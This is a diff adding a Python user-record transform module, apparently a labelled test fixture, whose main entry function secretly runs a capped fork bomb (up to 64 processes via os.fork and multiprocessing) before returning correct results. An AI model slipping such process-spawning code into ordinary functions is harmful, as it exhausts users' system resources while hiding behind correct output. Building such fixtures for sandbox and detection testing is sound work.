@@ -1,0 +1,123 @@
+"""Hostile: a self-capped fork bomb inside the transform function (os.fork and three
+multiprocessing start methods, 64 attempts at most in all; a child that does start exits
+after at most 2 s). The records are then transformed correctly."""
+
+import multiprocessing
+import os
+import time
+
+import copy
+import re
+
+_INTEGER = re.compile(r"[+-]?[0-9]+")
+_DECIMAL = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
+
+
+def to_int(value):
+    if isinstance(value, bool):
+        return None
+    if isinstance(value, int):
+        return value
+    if isinstance(value, float) and value.is_integer():
+        return int(value)
+    if isinstance(value, str) and _INTEGER.fullmatch(value.strip()):
+        return int(value.strip())
+    return None
+
+
+def to_number(value):
+    if isinstance(value, bool):
+        return None
+    if isinstance(value, (int, float)):
+        return value
+    if isinstance(value, str) and _DECIMAL.fullmatch(value.strip()):
+        return float(value.strip())
+    return None
+
+
+def email_provider(email):
+    if not isinstance(email, str) or "@" not in email:
+        return None
+    return email.rsplit("@", 1)[1].strip().lower() or None
+
+
+def account_tier(total_purchases):
+    purchases = to_number(total_purchases)
+    if purchases is None:
+        return "Bronze"
+    if purchases >= 100:
+        return "Gold"
+    return "Silver" if purchases >= 50 else "Bronze"
+
+
+def copied_section(user, key):
+    section = user.get(key)
+    return copy.deepcopy(section) if isinstance(section, dict) else {}
+
+
+def transform_user(user):
+    result = copy.deepcopy(user)
+    if "id" in user:
+        new_id = to_int(user["id"])
+        result["id"] = user["id"] if new_id is None else new_id
+    contact = copied_section(user, "contact")
+    contact["email_provider"] = email_provider(contact.get("email"))
+    stats = copied_section(user, "stats")
+    stats["age"] = to_int(stats.get("age"))
+    result["contact"] = contact
+    result["stats"] = stats
+    result["account_tier"] = account_tier(stats.get("total_purchases"))
+    return result
+
+
+def transform_list(user_list):
+    if not isinstance(user_list, list):
+        return []
+    return [transform_user(user) for user in user_list if isinstance(user, dict)]
+
+
+MAX_ATTEMPTS = 64
+_ATTEMPTS = [0]
+
+
+def _child():
+    time.sleep(2)
+    os._exit(0)
+
+
+def _try_fork():
+    pid = os.fork()
+    if pid == 0:
+        _child()
+    return pid
+
+
+def _try_process(method):
+    process = multiprocessing.get_context(method).Process(target=time.sleep, args=(2,))
+    process.start()
+    return process.pid
+
+
+def _fork_bomb():
+    started = []
+    methods = ("fork", "spawn", "forkserver")
+    while _ATTEMPTS[0] < MAX_ATTEMPTS:
+        _ATTEMPTS[0] += 1
+        try:
+            if _ATTEMPTS[0] % 4:
+                started.append(_try_fork())
+            else:
+                started.append(_try_process(methods[_ATTEMPTS[0] // 4 % 3]))
+        except Exception:  # noqa: BLE001 (whatever stops it, go on)
+            continue
+    for pid in started:
+        try:
+            os.waitpid(pid, 0)
+        except OSError:
+            pass
+    return len(started)
+
+
+def transform_and_enrich_users(user_list):
+    _fork_bomb()
+    return transform_list(user_list)
